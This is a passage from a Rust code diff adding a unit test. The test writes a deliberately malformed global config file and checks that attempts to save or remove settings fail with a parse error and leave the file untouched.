+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    let path = global_config_path().expect("global config path");
+    fs::create_dir_all(path.parent().unwrap()).expect("create config dir");
+    let broken = "provider = \"openai\"\nmodel = \"gpt-4o\n";
+    fs::write(&path, broken).expect("write broken config");
+
+    let err = config::save_setting("LOCALE", "en", ConfigScope::Global).expect_err("parse error");
+    assert!(format!("{err:#}").contains("Failed to parse"), "{err:#}");
+    assert!(config::remove_setting("MODEL", ConfigScope::Global).is_err());
+    assert_eq!(fs::read_to_string(&path).unwrap(), broken);
+}